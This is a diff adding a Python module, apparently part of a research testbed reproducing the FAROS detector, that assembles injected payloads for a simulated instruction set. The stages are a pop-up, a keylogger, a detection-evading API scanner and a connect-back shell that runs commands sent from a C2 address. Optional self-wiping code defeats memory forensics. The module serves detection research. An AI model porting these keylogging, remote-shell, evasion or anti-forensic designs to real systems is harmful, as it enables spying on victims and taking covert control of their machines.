@@ -1,0 +1,266 @@
+"""Injected payloads: the "malicious DLLs" and shellcode stages.
+
+A payload is a self-contained blob of position-dependent machine code
+assembled for the address it will execute at in the *target* process.
+Every payload follows real in-memory tradecraft:
+
+* an ``MZ`` marker heads the blob (what a PE-ish stage looks like in
+  memory, and what ``malfind``-style scans grep for);
+* the entry point sits at :data:`PAYLOAD_ENTRY_OFFSET` past the header;
+* imports are resolved **by hashing through the export table** (the
+  :func:`~repro.guestos.loader.export_resolver_asm` scan loop), never
+  via the loader -- the load of each resolved function pointer is the
+  exact instruction FAROS' invariant flags;
+* the *transient* variants wipe their own header+resolver bytes after
+  the initial action, defeating point-in-time memory forensics while
+  changing nothing about the information flow FAROS observes.
+
+Available stages: a pop-up stage (the paper's reflective-DLL demo), a
+keylogger (the Lab 3-3 hollowing payload), and a connect-back remote
+shell (the DarkComet/Njrat-style RAT stage).
+"""
+
+from __future__ import annotations
+
+from typing import Tuple
+
+from repro.guestos.loader import export_resolver_asm
+from repro.isa.assembler import Program, assemble
+
+#: Entry point offset past the MZ-style header.
+PAYLOAD_ENTRY_OFFSET = 8
+
+_HEADER = """
+    .ascii "MZ"
+    .space 6
+entry:
+"""
+
+
+def _resolver(api: str, uid: str) -> str:
+    """One export-table hash-resolution of *api* into r7."""
+    return export_resolver_asm(api, result_reg="r7").format(uid=uid)
+
+
+_WIPE = """
+wipe_code:
+    movi r1, {base}
+    movi r2, 0
+wipe_loop:
+    stb [r1], r2
+    addi r1, r1, 1
+    cmpi r1, wipe_code
+    jnz wipe_loop
+"""
+
+
+def _maybe_wipe(base: int, transient: bool) -> str:
+    """Self-wipe epilogue: zero [base, wipe_code) -- header, resolvers,
+    and stage body vanish from memory (and from any later snapshot)."""
+    return _WIPE.format(base=base) if transient else ""
+
+
+def build_popup_payload(base: int, transient: bool = False) -> Program:
+    """The reflective-DLL demo stage: 'only showed a pop-up message from
+    the target process, representing a successful injection' (§VI)."""
+    source = "\n".join(
+        [
+            _HEADER,
+            _resolver("WriteConsoleA", "pw"),
+            """
+    movi r1, msg
+    movi r2, 23
+    callr r7
+            """,
+            _resolver("Sleep", "ps"),
+            """
+    movi r6, slot_sleep
+    st [r6], r7
+            """,
+            # Transient stages dwell before cleaning up (the attacker
+            # finishes the task first) -- which is exactly the window a
+            # lucky early memory dump can still catch (see the
+            # snapshot-timing experiment).
+            (
+                """
+    movi r6, slot_sleep
+    ld r7, [r6]
+    movi r1, 30000
+    callr r7
+                """
+                if transient
+                else ""
+            ),
+            _maybe_wipe(base, transient),
+            """
+park:
+    movi r6, slot_sleep
+    ld r7, [r6]
+    movi r1, 8000
+    callr r7
+    jmp park
+msg: .ascii "meterpreter stage alive"
+slot_sleep: .word 0
+            """,
+        ]
+    )
+    return assemble(source, base=base)
+
+
+def build_keylogger_payload(base: int, log_path: str = "C:\\\\keylog.dat",
+                            transient: bool = False) -> Program:
+    """The hollowing stage: poll keystrokes, append them to a log file."""
+    source = "\n".join(
+        [
+            _HEADER,
+            _resolver("CreateFileA", "kc"),
+            """
+    movi r1, logpath
+    callr r7
+    movi r6, slot_file
+    st [r6], r0
+            """,
+            _resolver("GetAsyncKeyState", "kk"),
+            "    movi r6, slot_keys\n    st [r6], r7",
+            _resolver("WriteFile", "kw"),
+            "    movi r6, slot_write\n    st [r6], r7",
+            _resolver("Sleep", "ks"),
+            "    movi r6, slot_sleep\n    st [r6], r7",
+            _maybe_wipe(base, transient),
+            f"""
+kloop:
+    movi r6, slot_keys
+    ld r7, [r6]
+    movi r1, keybuf
+    movi r2, 16
+    callr r7
+    cmpi r0, 0
+    jz ksleep
+    mov r3, r0
+    movi r6, slot_file
+    ld r1, [r6]
+    movi r2, keybuf
+    movi r6, slot_write
+    ld r7, [r6]
+    callr r7
+ksleep:
+    movi r6, slot_sleep
+    ld r7, [r6]
+    movi r1, 400
+    callr r7
+    jmp kloop
+logpath: .asciz "{log_path}"
+keybuf: .space 16
+slot_file: .word 0
+slot_keys: .word 0
+slot_write: .word 0
+slot_sleep: .word 0
+            """,
+        ]
+    )
+    return assemble(source, base=base)
+
+
+def build_scanner_payload(base: int, transient: bool = False) -> Program:
+    """A stage that avoids the export table entirely (§VI-B evasion).
+
+    Instead of hashing through export entries, it scans the kernel
+    module's *code* for the API stub pattern (``movi r0, <sysno>``) --
+    the analog of ROP-style "techniques that search for functions in
+    memory to avoid tainted library linking pointers".  Against the
+    paper's export-pointer-only tagging this leaves no export-table read
+    to flag; FAROS' policy response is ``taint_kernel_code=True``.
+    """
+    from repro.guestos.layout import KERNEL_SHARED_BASE
+    from repro.guestos.syscalls import Sys
+
+    source = "\n".join(
+        [
+            _HEADER,
+            f"""
+    ; scan kernel code for the WriteConsoleA stub: movi r0, {int(Sys.WRITE_CONSOLE)}
+    movi r4, {KERNEL_SHARED_BASE}
+scan_loop:
+    ldb r5, [r4]             ; opcode byte of a would-be instruction
+    cmpi r5, 0x11            ; MOVI?
+    jnz scan_next
+    ld r5, [r4+4]            ; its immediate: the syscall number
+    cmpi r5, {int(Sys.WRITE_CONSOLE)}
+    jz scan_hit
+scan_next:
+    addi r4, r4, 8
+    jmp scan_loop
+scan_hit:
+    mov r7, r4               ; the stub address, no export table touched
+    movi r1, msg
+    movi r2, 19
+    callr r7
+            """,
+            _maybe_wipe(base, transient),
+            """
+park:
+    jmp park
+msg: .ascii "scanner stage alive"
+            """,
+        ]
+    )
+    return assemble(source, base=base)
+
+
+def build_shell_payload(
+    base: int,
+    c2_ip: str,
+    c2_port: int,
+    transient: bool = False,
+) -> Program:
+    """The RAT stage: connect back to the C2 and WinExec its commands."""
+    source = "\n".join(
+        [
+            _HEADER,
+            _resolver("socket", "ss"),
+            """
+    callr r7
+    movi r6, slot_sock
+    st [r6], r0
+            """,
+            _resolver("connect", "sc"),
+            f"""
+    movi r6, slot_sock
+    ld r1, [r6]
+    movi r2, c2ip
+    movi r3, {c2_port}
+    callr r7
+            """,
+            _resolver("recv", "sr"),
+            "    movi r6, slot_recv\n    st [r6], r7",
+            _resolver("WinExec", "se"),
+            "    movi r6, slot_exec\n    st [r6], r7",
+            _maybe_wipe(base, transient),
+            f"""
+sloop:
+    movi r6, slot_sock
+    ld r1, [r6]
+    movi r2, cmdbuf
+    movi r3, 63
+    movi r6, slot_recv
+    ld r7, [r6]
+    callr r7
+    ; NUL-terminate the received command
+    movi r6, cmdbuf
+    add r6, r6, r0
+    movi r5, 0
+    stb [r6], r5
+    movi r1, cmdbuf
+    movi r6, slot_exec
+    ld r7, [r6]
+    callr r7
+    jmp sloop
+c2ip: .asciz "{c2_ip}"
+cmdbuf: .space 64
+slot_sock: .word 0
+slot_recv: .word 0
+slot_exec: .word 0
+            """,
+        ]
+    )
+    return assemble(source, base=base)
